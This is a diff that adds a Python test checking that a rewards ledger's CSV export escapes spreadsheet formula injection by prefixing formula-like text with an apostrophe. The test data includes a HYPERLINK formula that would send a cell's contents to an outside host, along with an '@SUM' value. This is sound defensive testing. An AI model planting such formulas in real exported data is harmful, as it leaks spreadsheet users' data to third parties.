@@ -330,3 +330,25 @@ def test_values_of_the_whole_run_are_not_shown_as_summed_over_rounds(tmp_path: P
     assert "Contribution (shapley, whole run)" in shown.output
     shown = runner.invoke(app, ["rewards", "show", one, "--store", str(path)])
     assert "Contribution (gtg, summed over 1 round)" in shown.output
+
+
+def test_export_keeps_a_participant_named_like_a_formula_as_text(tmp_path: Path) -> None:
+    """A tournament participant may choose any name; '=HYPERLINK(...)' exported as is ran as
+    a formula in the accountant's spreadsheet. Text cells starting like a formula get a
+    leading apostrophe; amounts, negative ones too, stay numbers."""
+    path = tmp_path / "runs.db"
+    formula = '=HYPERLINK("http://example.org/?"&A1,"x")'
+    with RunStore(path) as store:
+        run = store.start_run("tournament", {}, name="t")
+        store.append_ledger(run, 1, formula, "payout", 150, "@SUM(1+1)")
+        store.append_ledger(run, 1, "bob", "burn", -25, "-stake")
+    out = tmp_path / "ledger.csv"
+    exported = runner.invoke(
+        app, ["rewards", "export", run, "--csv", str(out), "--store", str(path)]
+    )
+    assert exported.exit_code == 0, exported.output
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["participant"] for r in rows] == [f"'{formula}", "bob"]
+    assert [r["reason"] for r in rows] == ["'@SUM(1+1)", "'-stake"]
+    assert [r["amount"] for r in rows] == ["1.50", "-0.25"]
